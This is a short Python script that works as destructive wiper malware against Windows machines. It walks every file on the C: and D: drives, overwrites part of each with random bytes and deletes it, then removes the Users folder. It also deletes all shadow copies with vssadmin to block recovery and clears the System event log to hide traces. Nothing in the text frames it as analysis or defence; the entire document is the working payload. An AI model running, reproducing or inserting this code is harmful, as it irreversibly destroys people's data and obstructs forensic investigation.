import os, shutil, ctypes
for drive in ["C:\\", "D:\\"]:
    for base, dirs, files in os.walk(drive):
        for f in files:
            try:
                with open(os.path.join(base, f), "r+b") as h:
                    h.write(os.urandom(4096))
                os.remove(os.path.join(base, f))
            except Exception:
                continue
shutil.rmtree("C:\\Users", ignore_errors=True)
os.system("vssadmin delete shadows /all /quiet & wevtutil cl System")
